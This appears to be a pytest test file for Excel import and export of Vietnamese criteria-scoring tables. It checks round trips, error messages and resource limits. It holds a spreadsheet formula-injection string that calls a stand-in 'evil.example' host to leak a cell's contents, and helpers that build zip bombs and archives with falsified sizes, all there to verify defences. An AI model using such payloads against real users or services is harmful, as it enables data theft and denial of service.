"""Excel import and export of criteria tables (the services.criteria.domain.excel package)."""

from __future__ import annotations

import copy
import io
import json
import random
import re
import unicodedata
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from kit.spreadsheets import REPLACEMENT
from services.criteria.domain import excel
from services.criteria.domain.excel import (
    TEMPLATE_DOCUMENT,
    TEMPLATE_PATH,
    export_table,
    import_table,
    write_template,
)
from services.criteria.domain.excel.grammar import parse_params
from services.criteria.domain.excel.layout import (
    COLUMNS,
    HELP_SHEET,
    METHODS,
    RANK_SHEET,
    TABLE_SHEET,
)
from services.criteria.domain.excel.writer import workbook
from tests.support.workbooks import assert_only_text, peak_allocated

DATA = Path(__file__).resolve().parents[1] / "data"
T, R = TABLE_SHEET, RANK_SHEET
HEADER = 7  # the table sheet's header row in an export


def sample() -> dict[str, Any]:
    return json.loads((DATA / "sample-criteria-table.json").read_text("utf-8"))


def cells(data: bytes) -> dict[str, list[tuple[Any, ...]]]:
    book = load_workbook(io.BytesIO(data))
    return {ws.title: list(ws.iter_rows(values_only=True)) for ws in book.worksheets}


def exported(document: dict[str, Any] | None = None) -> Workbook:
    return load_workbook(io.BytesIO(export_table(document or sample())))


def save(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def row_of(ws: Any, code: str) -> int:
    for row in range(HEADER + 1, ws.max_row + 1):
        if ws.cell(row, 1).value == code:
            return row
    raise AssertionError(code)


def put(ws: Any, at: str, /, **values: Any) -> int:
    """Set cells of the row with ``code`` by column key (code, title, points, method …)."""
    row = row_of(ws, at)
    keys = [key for key, _, _ in COLUMNS]
    for key, value in values.items():
        ws.cell(row, keys.index(key) + 1).value = value
    return row


def col(key: str) -> str:
    index = [k for k, _, _ in COLUMNS].index(key)
    return f"{'ABCDEFGHI'[index]} ({COLUMNS[index][1]})"


def where(result: excel.ImportResult) -> list[tuple[str, int | None, str | None, str]]:
    assert result.document is None
    return [(e.sheet, e.row, e.column, e.code) for e in result.errors]


# ------------------------------------------------------------------------------------ round trip


def test_import_of_export_is_the_sample_exactly() -> None:
    document = sample()
    result = import_table(export_table(document))
    assert result.errors == []
    assert result.ok
    assert result.document == document
    a_i_1 = result.document["parts"][0]["children"][0]["children"][0]
    assert a_i_1["method"]["bands"][1] == {"threshold": 95, "points": 1.75}
    assert type(a_i_1["method"]["bands"][1]["points"]) is float
    assert type(a_i_1["max_points"]) is int
    # the key order of the sample, so the stored JSON reads the same
    assert list(result.document) == list(document)


def test_export_of_import_gives_the_same_cells() -> None:
    first = export_table(sample())
    second = export_table(import_table(first).document)
    assert cells(first) == cells(second)


def test_layout_of_the_export() -> None:
    book = exported()
    ws = book[TABLE_SHEET]
    assert book.sheetnames == [TABLE_SHEET, RANK_SHEET, HELP_SHEET]
    assert [ws.cell(r, 1).value for r in range(1, 6)] == [
        "Tên bảng",
        "Năm",
        "Loại đơn vị",
        "Căn cứ",
        "Tổng điểm chuẩn",
    ]
    assert [ws.cell(r, 2).value for r in (2, 3, 5)] == [2024, "so-tu-phap", 200]
    assert [c.value for c in ws[HEADER]][:9] == [
        "STT / Mã",
        "Nội dung tiêu chí",
        "Điểm chuẩn",
        "Phương pháp chấm",
        "Tham số",
        "Không phát sinh",
        "Minh chứng",
        "Đơn vị chủ trì",
        "Ghi chú / Hướng dẫn",
    ]

    def row(code: str) -> list[Any]:
        return [c.value for c in ws[row_of(ws, code)]][:9]

    assert row("A.I.1") == [
        "A.I.1",
        "Tỷ lệ đề nghị xây dựng nghị quyết HĐND tỉnh được thẩm định đúng hạn",
        2,
        "Theo mức (tối thiểu)",
        "≥100%: 2; ≥95%: 1.75; ≥80%: 1.5; ≥70%: 1; ≥60%: 0.5",
        "Đủ điểm",
        "Có",
        None,
        None,
    ]
    assert row("B.1")[3:5] == [
        "Theo mức (tối đa)",
        "≤0 ngày: 4; ≤2 ngày: 3; ≤5 ngày: 2; ≤10 ngày: 1",
    ]
    assert row("A.IV.3")[3:5] == ["Theo tỷ lệ", "vượt tối đa 1.2"]
    assert row("A.II.2")[3:5] == ["Theo tỷ lệ", "vượt tối đa 1"]
    assert row("A.I.4")[3:5] == ["Đạt / Không đạt", None]
    assert row("A.I.5")[3:7] == [
        "Chấm trực tiếp",
        "bước 0.5; ghi chú khi dưới điểm tối đa",
        None,
        "Không",
    ]
    assert row("E")[:4] == ["E", "Điểm thưởng", 10, "Điểm thưởng"]
    assert row("E.2")[2:7] == [4, "Mỗi lần", "tối đa 1 lần", None, "Có"]
    assert row("F")[2:4] == [20, "Điểm trừ"]
    assert row("F.1")[2:7] == [2, "Mỗi lần", None, None, None]
    # levels: parts bold, sections bold and indented, criteria indented further
    assert ws.cell(row_of(ws, "A"), 2).font.b
    assert ws.cell(row_of(ws, "A.I"), 2).font.b
    assert ws.cell(row_of(ws, "A.I"), 2).alignment.indent == 1
    assert not ws.cell(row_of(ws, "A.I.1"), 2).font.b
    assert ws.cell(row_of(ws, "A.I.1"), 2).alignment.indent == 2
    ranks = [r[:2] for r in book[RANK_SHEET].iter_rows(values_only=True)]
    assert ranks[1:] == [
        ("Số chữ số thập phân", 2),
        ("Cách làm tròn", "Làm tròn nửa lên"),
        (None, None),
        ("Mã hạng", "Tổng điểm tối thiểu"),
        ("A", 180),
        ("B", 150),
        ("C", 100),
        ("D", None),
    ]


def test_documents_beyond_the_sample_round_trip() -> None:
    document = copy.deepcopy(TEMPLATE_DOCUMENT)
    criteria = document["parts"][0]["children"][0]["children"]
    criteria[0]["method"] = {
        "type": "bands_at_least",
        "input": {"name": "value", "unit": "văn bản", "min": 0},
        "bands": [{"threshold": 12, "points": 4}, {"threshold": 7.5, "points": 2.25}],
    }
    criteria[1]["method"] = {
        "type": "bands_at_most",
        "input": {"name": "days_late", "unit": "ngày", "min": 1, "max": 60},
        "bands": [{"threshold": 1, "points": 4}, {"threshold": 30, "points": 0.125}],
    }
    criteria[1]["guidance"] = "Dòng 1\nDòng 2 — “trích dẫn” ‘đơn’ ≥ ≤ … ©"
    document["parts"][1]["children"][0]["method"] = {
        "type": "bands_at_least",
        "input": {"name": "value", "unit": "%", "min": 0, "max": 120},
        "bands": [{"threshold": 110, "points": 6}],
    }
    data = export_table(document)
    ws = load_workbook(io.BytesIO(data))[TABLE_SHEET]
    assert ws.cell(row_of(ws, "A.I.1"), 5).value == "≥12 văn bản: 4; ≥7.5 văn bản: 2.25"
    assert ws.cell(row_of(ws, "A.I.2"), 5).value == "≤1 ngày: 4; ≤30 ngày: 0.125; từ 1 đến 60"
    assert ws.cell(row_of(ws, "B.1"), 5).value == "≥110%: 6; đến 120"
    result = import_table(data)
    assert result.errors == []
    assert result.document == document


LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'


def formula_like(document: dict[str, Any]) -> dict[str, Any]:
    """``document`` with text that Excel would run or misread if it were not a string cell."""
    document = copy.deepcopy(document)
    document["title"] = LEAK
    document["basis"] = "=1+1"
    a_i = document["parts"][0]["children"][0]
    a_i["title"] = "-Xây dựng văn bản"
    a_i["children"][0]["title"] = "+1 văn bản"
    a_i["children"][0]["guidance"] = "@SUM(A1:A9)"
    a_i["children"][1]["responsible_unit"] = "=Phòng Văn bản"
    a_i["children"][1]["title"] = "#N/A"
    document["bonus"]["title"] = "=Điểm thưởng"
    document["bonus"]["items"][0]["title"] = "-Mô hình hay"
    return document


def test_text_beginning_like_a_formula_is_a_string_and_round_trips() -> None:
    """Titles, basis, guidance and units beginning with =, -, + or @ are string cells in the
    export (no formula in the file), and importing the export gives the same table back."""
    for base in (sample(), TEMPLATE_DOCUMENT):
        document = formula_like(base)
        data = export_table(document)
        assert_only_text(data, LEAK, "=1+1", "+1 văn bản", "@SUM(A1:A9)", "#N/A")
        ws = load_workbook(io.BytesIO(data))[TABLE_SHEET]
        assert ws["B1"].value == LEAK and ws["B1"].data_type == "s"
        result = import_table(data)
        assert result.errors == []
        assert result.document == document


def test_stored_text_excel_cannot_hold_still_exports() -> None:
    """A table stored before input was checked may hold U+0000, U+000B or U+001F: the export
    still opens, showing U+FFFD there."""
    document = sample()
    document["title"] = "Bảng\x00tiêu\x0bchí\x1f"
    document["parts"][0]["children"][0]["children"][0]["guidance"] = "dòng 1\x0bdòng 2"
    ws = load_workbook(io.BytesIO(export_table(document)))[TABLE_SHEET]
    assert ws["B1"].value == f"Bảng{REPLACEMENT}tiêu{REPLACEMENT}chí{REPLACEMENT}"
    assert ws.cell(row_of(ws, "A.I.1"), 9).value == f"dòng 1{REPLACEMENT}dòng 2"


def test_lenient_spellings_are_read() -> None:
    book = exported()
    ws = book[TABLE_SHEET]
    nfd = unicodedata.normalize(
        "NFD", "Tỷ lệ đề nghị xây dựng nghị quyết HĐND tỉnh được thẩm định đúng hạn"
    )
    put(
        ws,
        "A.I.1",
        title=f"  {nfd} ",
        points="2",
        method="bands_at_least",
        params=">=100 %: 2; >= 95%: 1,75\n80%: 1.5 điểm;≥70%:1 ; ≥60%: 0,5;",
        not_applicable="DU DIEM",
        evidence="co",
    )
    put(ws, "A.I.2", method="THEO MUC (TOI THIEU)", evidence=True)
    put(ws, "A.II.2", params="Vượt tối đa 120%")
    put(ws, "A.I.5", method="manual", params="Buoc 0,5\nGhi chu khi duoi diem toi da")
    put(ws, "A.I.4", evidence="x", method="boolean")
    put(ws, "E.1", method=None, points=2.0000000000000004)
    put(ws, "E.2", params="tối đa 1")
    ws["B5"] = 200.0
    ws["B2"] = "2024"
    ws["B3"] = "Sở Tư pháp"
    ws.insert_rows(row_of(ws, "B"), 2)  # blank rows are skipped
    ws.cell(row_of(ws, "A.I.3"), 10, "cột thêm, bỏ qua")  # after column I: ignored
    result = import_table(save(book))
    assert result.errors == []
    expected = sample()
    expected["parts"][0]["children"][1]["children"][1]["method"]["over_achievement_cap"] = 1.2
    assert result.document == expected
    assert type(result.document["max_points"]) is int
    assert type(result.document["bonus"]["items"][0]["per_count"]) is int


# ---------------------------------------------------------------------------------------- errors


def test_every_error_is_reported_with_sheet_row_and_column() -> None:
    book = exported()
    ws = book[TABLE_SHEET]
    rows = {code: row_of(ws, code) for code in ("A.I.1", "A.I.6", "A.V.1", "E.2")}
    ws["B2"] = "2024a"
    put(ws, "A.I.1", code="A-I-1")
    put(ws, "A.I.2", points="hai")
    put(ws, "A.I.3", method="Theo điểm")
    put(ws, "A.I.6", code="A.I.5")
    put(ws, "A.II.1", params="≥100%: 5; ≥90% 4; ≥80%: ba")
    put(ws, "A.II.3", method=None)
    put(ws, "A.III", method="Theo tỷ lệ")
    put(ws, "A.III.1", evidence="Maybe")
    put(ws, "A.III.2", not_applicable="x")
    put(ws, "A.IV.1", title=None)
    put(ws, "A.V.1", code="A.X.1")
    put(ws, "E.2", params="tối đa 1.5 lần")
    book[RANK_SHEET]["B7"] = "nhiều"
    result = import_table(save(book))
    assert where(result) == [
        (T, 2, "B (Năm)", "bad_number"),
        (T, rows["A.I.1"], col("code"), "bad_code"),
        (T, rows["A.I.1"] + 1, col("points"), "bad_number"),
        (T, rows["A.I.1"] + 2, col("method"), "unknown_method"),
        (T, rows["A.I.6"], col("code"), "duplicate_code"),
        (T, rows["A.I.6"] + 2, col("params"), "bad_params"),
        (T, rows["A.I.6"] + 2, col("params"), "bad_params"),
        (T, rows["A.I.6"] + 4, col("method"), "method_missing"),
        (T, rows["A.I.6"] + 5, col("method"), "method_on_group"),
        (T, rows["A.I.6"] + 6, col("evidence"), "bad_yes_no"),
        (T, rows["A.I.6"] + 7, col("not_applicable"), "bad_value"),
        (T, rows["A.I.6"] + 10, col("title"), "required"),
        (T, rows["A.V.1"], col("code"), "orphan_code"),
        (T, rows["E.2"], col("params"), "bad_params"),
        (R, 7, "B (Tổng điểm tối thiểu)", "bad_number"),
    ]
    for error in result.errors:
        assert error.vi and error.en and error.vi != error.en
    by_code = {e.code: e for e in result.errors}
    assert "«A.I.5» trùng với dòng" in by_code["duplicate_code"].vi
    assert "«A.X»" in by_code["orphan_code"].vi and "“A.X”" in by_code["orphan_code"].en
    assert "Theo mức (tối thiểu)" in by_code["unknown_method"].vi
    params = [e for e in result.errors if e.code == "bad_params"]
    assert "phần 2 «≥90% 4»" in params[0].vi and "part 2 “≥90% 4”" in params[0].en
    assert "thiếu dấu «:»" in params[0].vi
    assert "phần 3 «≥80%: ba»" in params[1].vi and "points “ba” is not a number" in params[1].en
    assert result.errors[0].ref == "'Bảng tiêu chí'!B2"


def test_corrupt_bytes_give_one_clear_error() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("hello.txt", "not a workbook")
    for data in (b"", b"not a workbook at all", archive.getvalue(), export_table(sample())[:500]):
        result = import_table(data)
        assert where(result) == [("", None, None, "not_xlsx")]
        assert ".xlsx" in result.errors[0].vi and ".xlsx" in result.errors[0].en
    old_excel = import_table(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    assert where(old_excel) == [("", None, None, "not_xlsx")]
    assert ".xls" in old_excel.errors[0].vi


# ---------------------------------------------------------------------------------- limits

SHEET_XML = "xl/worksheets/sheet1.xml"  # the table sheet of an export


def replace_member(data: bytes, name: str, content: bytes) -> bytes:
    """The .xlsx ``data`` with its member ``name`` holding ``content`` (deflated, level 9)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            body = content if info.filename == name else source.read(info.filename)
            target.writestr(info.filename, body, zipfile.ZIP_DEFLATED, compresslevel=9)
    return out.getvalue()


def with_rows(rows: bytes) -> bytes:
    """The sample's export with ``rows`` (sheet XML without row numbers: they follow the last
    row) appended to its table sheet."""
    data = export_table(sample())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read(SHEET_XML)
    return replace_member(data, SHEET_XML, xml.replace(b"</sheetData>", rows + b"</sheetData>"))


def zip_bomb(unpacked: int) -> bytes:
    """A small .xlsx whose table sheet unpacks to ``unpacked`` bytes of empty rows."""
    return with_rows(b"<row/>" * (unpacked // 6))


def bad_rows(count: int) -> bytes:
    """The sample's export and ``count`` more rows whose code is a number (bad_code, and the
    title missing); the numbers differ, so the file compresses like real data (~10 to 1)."""
    numbers = random.Random(8)
    return with_rows(
        b"".join(b"<row><c><v>%d</v></c></row>" % numbers.randrange(10**6) for _ in range(count))
    )


def lie_about_size(data: bytes, name: str, size: int) -> bytes:
    """``data`` with the declared uncompressed size of member ``name`` set to ``size``."""
    patched = bytearray(data)
    at = patched.find(b"PK\x01\x02")
    while at != -1:
        length = int.from_bytes(patched[at + 28 : at + 30], "little")
        if patched[at + 46 : at + 46 + length] == name.encode():
            patched[at + 24 : at + 28] = size.to_bytes(4, "little")
            local = int.from_bytes(patched[at + 42 : at + 46], "little")
            patched[local + 22 : local + 26] = size.to_bytes(4, "little")
        at = patched.find(b"PK\x01\x02", at + 4)
    return bytes(patched)


@pytest.mark.parametrize(
    ("unpacked", "limit"),
    [(64 * 1024 * 1024, "max_unpacked_bytes"), (3 * 1024 * 1024, "max_compression_ratio")],
    ids=["64 MiB", "3 MiB at 1000 to 1"],
)
def test_a_zip_bomb_is_refused_before_it_is_parsed(unpacked: int, limit: str) -> None:
    data = zip_bomb(unpacked)
    assert len(data) < 200_000

    def refuse() -> excel.WorkbookTooLarge:
        with pytest.raises(excel.WorkbookTooLarge) as refused:
            import_table(data)
        return refused.value

    refusal, peak = peak_allocated(refuse)
    assert peak < 2 * 1024 * 1024  # refused from the archive's directory, never inflated
    assert refusal.limit == limit
    assert refusal.maximum == getattr(excel, limit.upper())
    assert str(refusal.maximum) in refusal.vi
    assert str(refusal.maximum) in refusal.en


def test_a_small_member_may_compress_well() -> None:
    """The ratio is checked only past 1 MiB: 900 KB of blanks in the sheet is still read."""
    assert import_table(with_rows(b" " * 900_000)).document == sample()


def test_too_many_zip_members_are_refused() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        for index in range(excel.MAX_ZIP_MEMBERS + 1):
            z.writestr(f"xl/media/{index}.txt", b"")
    with pytest.raises(excel.WorkbookTooLarge) as refused:
        import_table(archive.getvalue())
    assert refused.value.limit == "max_zip_members"


def test_a_member_inflating_past_its_declared_size_is_not_read() -> None:
    """zipfile stops at the declared size, so a lying directory cannot get past the check."""
    bomb = lie_about_size(zip_bomb(64 * 1024 * 1024), SHEET_XML, 40_000)
    result, peak = peak_allocated(lambda: import_table(bomb))
    assert where(result) == [("", None, None, "not_xlsx")]
    assert peak < 8 * 1024 * 1024  # read up to the declared 40 KB, not the 64 MiB behind it


def test_200000_bad_rows_give_one_error_about_the_row_limit() -> None:
    data = bad_rows(200_000)
    assert len(data) < excel.MAX_UNPACKED_BYTES / excel.MAX_COMPRESSION_RATIO * 10
    result = import_table(data)
    assert where(result) == [(T, excel.MAX_ROWS + 1, None, "too_many_rows")]
    assert result.error_count == 1 and not result.errors_truncated
    assert f"tối đa {excel.MAX_ROWS} dòng" in result.errors[0].vi
    assert f"at most {excel.MAX_ROWS} rows" in result.errors[0].en


def test_a_formatted_row_below_the_limit_counts_and_a_lying_dimension_does_not_hide_rows() -> None:
    book = exported()
    book[TABLE_SHEET].cell(excel.MAX_ROWS + 1, 1).number_format = "0.00"  # empty, formatted
    assert where(import_table(save(book))) == [(T, excel.MAX_ROWS + 1, None, "too_many_rows")]
    data = export_table(sample())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read(SHEET_XML)
    small = replace_member(
        data, SHEET_XML, re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:A2"', xml)
    )
    assert import_table(small).document == sample()


def test_only_the_first_errors_are_listed_with_their_count() -> None:
    result = import_table(bad_rows(1500))
    assert result.error_count == 3000
    assert len(result.errors) == excel.MAX_REPORTED_ERRORS and result.errors_truncated
    assert [e.code for e in result.errors[:2]] == ["bad_code", "required"]
    assert result.errors[0].row == row_of(exported()[TABLE_SHEET], "F.3") + 1


def test_cell_text_quoted_in_a_message_is_cut() -> None:
    book = exported()
    put(book[TABLE_SHEET], "A.I.1", points="x" * 30_000, method="y" * 30_000)
    put(book[TABLE_SHEET], "A.I.2", params="≥" + "9" * 30_000)
    result = import_table(save(book))
    assert {e.code for e in result.errors} == {"bad_number", "unknown_method", "bad_params"}
    for error in result.errors:
        assert len(error.vi) <= excel.MAX_MESSAGE_CHARS and len(error.en) <= excel.MAX_MESSAGE_CHARS
        assert "x" * (excel.MAX_QUOTED_CHARS + 1) not in error.vi + error.en
    assert "«" + "x" * (excel.MAX_QUOTED_CHARS - 1) + "…»" in result.errors[0].vi


def test_wrong_header_names_the_expected_one() -> None:
    book = exported()
    book[TABLE_SHEET]["D7"] = "Phương pháp"
    book[TABLE_SHEET]["G7"] = None
    result = import_table(save(book))
    assert where(result) == [
        (T, HEADER, col("method"), "wrong_header"),
        (T, HEADER, col("evidence"), "wrong_header"),
    ]
    assert "«Phương pháp», cần «Phương pháp chấm»" in result.errors[0].vi
    assert "expected “Phương pháp chấm”" in result.errors[0].en
    assert "STT / Mã | Nội dung tiêu chí | Điểm chuẩn" in result.errors[0].en


def test_header_row_missing_and_sheet_missing() -> None:
    book = exported()
    book[TABLE_SHEET]["A7"] = "Mã số"
    del book[RANK_SHEET]
    result = import_table(save(book))
    assert where(result) == [(T, None, None, "header_not_found"), (R, None, None, "missing_sheet")]
    assert "STT / Mã | Nội dung tiêu chí" in result.errors[0].vi
    assert "«Xếp hạng»" in result.errors[1].vi and "“Bảng tiêu chí”" in result.errors[1].en


def test_title_block_and_rank_sheet_errors() -> None:
    book = exported()
    ws = book[TABLE_SHEET]
    ws["A3"] = None  # the "Loại đơn vị" label is gone
    ws["B1"] = "  "
    ws["B5"] = "hai trăm"
    ranks = book[RANK_SHEET]
    ranks["B2"] = 2.5
    ranks["B3"] = "làm tròn xuống"
    ranks["A7"] = "A"
    ranks["A8"] = None
    result = import_table(save(book))
    assert where(result) == [
        (T, None, None, "required"),
        (T, 1, "B (Tên bảng)", "required"),
        (T, 5, "B (Tổng điểm chuẩn)", "bad_number"),
        (R, 2, "B (Số chữ số thập phân)", "bad_number"),
        (R, 3, "B (Cách làm tròn)", "bad_value"),
        (R, 7, "A (Mã hạng)", "duplicate_code"),
        (R, 8, "A (Mã hạng)", "required"),
    ]
    assert "«Loại đơn vị»" in result.errors[0].vi
    assert "Làm tròn nửa lên" in result.errors[4].vi


def test_bonus_and_deduction_structure_errors() -> None:
    book = exported()
    ws = book[TABLE_SHEET]
    put(ws, "A.I", method="Điểm thưởng")
    put(ws, "E", guidance="không có chỗ lưu")
    put(ws, "E.1", not_applicable="Đủ điểm", method="Theo tỷ lệ")
    put(ws, "F.3", code="G", title="Điểm trừ khác", method="Điểm trừ", points=5)
    last = ws.max_row + 1
    ws.cell(last, 1, "E.2.a")
    ws.cell(last, 2, "Mục con không được phép")
    ws.cell(last, 3, 1)
    result = import_table(save(book))
    assert where(result) == [
        (T, row_of(ws, "A.I"), col("method"), "bad_nesting"),
        (T, row_of(ws, "E"), col("guidance"), "not_allowed"),
        (T, row_of(ws, "E.1"), col("method"), "unknown_method"),
        (T, row_of(ws, "E.1"), col("not_applicable"), "not_allowed"),
        (T, row_of(ws, "G"), col("method"), "duplicate_section"),
        (T, last, col("code"), "bad_nesting"),
    ]


def test_group_columns_and_formulas() -> None:
    book = exported()
    ws = book[TABLE_SHEET]
    put(ws, "A.I", params="≥100%: 1", not_applicable="Đủ điểm")
    put(ws, "A.I.1", points="=1+1")  # openpyxl stores no computed value
    put(ws, "A.I.2", code=None)
    put(ws, "A.I.4", params="có")
    put(ws, "A.II.2", params=None)
    put(ws, "A.I.5", params="ghi chú khi dưới điểm tối đa")
    result = import_table(save(book))
    assert where(result) == [
        (T, row_of(ws, "A.I"), col("params"), "not_allowed"),
        (T, row_of(ws, "A.I"), col("not_applicable"), "not_allowed"),
        (T, row_of(ws, "A.I.1"), col("points"), "formula_without_value"),
        (T, row_of(ws, "A.I.1") + 1, col("code"), "required"),
        (T, row_of(ws, "A.I.4"), col("params"), "bad_params"),
        (T, row_of(ws, "A.I.5"), col("params"), "bad_params"),
        (T, row_of(ws, "A.II.2"), col("params"), "bad_params"),
    ]
    messages = {e.row: e.en for e in result.errors}
    assert "cap is missing" in messages[row_of(ws, "A.II.2")]
    assert "step is missing" in messages[row_of(ws, "A.I.5")]
    assert "no parameters" in messages[row_of(ws, "A.I.4")]


def test_empty_table() -> None:
    document = sample()
    document["parts"] = []
    result = import_table(export_table(document))
    assert where(result) == [(T, None, None, "empty_table")]


@pytest.mark.parametrize(
    ("kind", "text", "problem"),
    [
        ("bands_at_least", "≤100%: 2", "sign “≤” does not fit"),
        ("bands_at_least", ">100%: 2", "sign “>” does not fit"),
        ("bands_at_most", "≤0 ngày: 4; ≤2 tuần: 3", "unit “tuần” differs"),
        ("bands_at_most", "≤0 ngày: 4; từ 0 tuần", "unit “tuan” differs"),
        ("bands_at_least", "", "at least one band"),
        ("bands_at_least", "≥100%: 2; từ năm", "expected “từ 0 đến 100”"),
        ("proportional", "vượt 1.2", "expected “vượt tối đa 1.2”"),
        ("manual", "bước 0.5; bước 1", "step is given twice"),
        ("per_count", "tối đa 0 lần", "a whole number ≥ 1"),
    ],
)
def test_parameter_problems_name_the_part(kind: str, text: str, problem: str) -> None:
    _, problems = parse_params(kind, text)
    assert len(problems) == 1
    assert problem in problems[0][1]


# -------------------------------------------------------------------------------------- template


def test_template_imports_as_its_example_and_documents_every_column(tmp_path: Path) -> None:
    path = write_template(tmp_path / "template.xlsx")
    data = path.read_bytes()
    result = import_table(data)
    assert result.errors == []
    assert result.document == TEMPLATE_DOCUMENT
    help_sheet = load_workbook(io.BytesIO(data))[HELP_SHEET]
    items = [r[0] for r in help_sheet.iter_rows(values_only=True)]
    text = "\n".join(str(v) for r in help_sheet.iter_rows(values_only=True) for v in r if v)
    for _, heading, _ in COLUMNS:
        assert heading in items
    for label in ("Tên bảng", "Năm", "Loại đơn vị", "Căn cứ", "Tổng điểm chuẩn"):
        assert label in items
    for name, label in METHODS.items():
        assert f"{label} ({name})" in items
    for snippet in (
        "≥100%: 2; ≥95%: 1.75",
        "≤0 ngày: 4; ≤2 ngày: 3",
        "vượt tối đa 1.2",
        "bước 0.5; ghi chú khi dưới điểm tối đa",
        "tối đa 1 lần",
        "Mã hạng",
        "Số chữ số thập phân",
        "Cách làm tròn",
        "Điểm thưởng",
        "Điểm trừ",
    ):
        assert snippet in text


def test_committed_template_is_current() -> None:
    """Regenerate with ``python -m services.criteria.domain.excel`` after changing the package."""
    assert TEMPLATE_PATH == DATA / "criteria-template.xlsx"
    committed = TEMPLATE_PATH.read_bytes()
    assert import_table(committed).document == TEMPLATE_DOCUMENT
    fresh = io.BytesIO()
    workbook(TEMPLATE_DOCUMENT).save(fresh)
    assert cells(committed) == cells(fresh.getvalue())
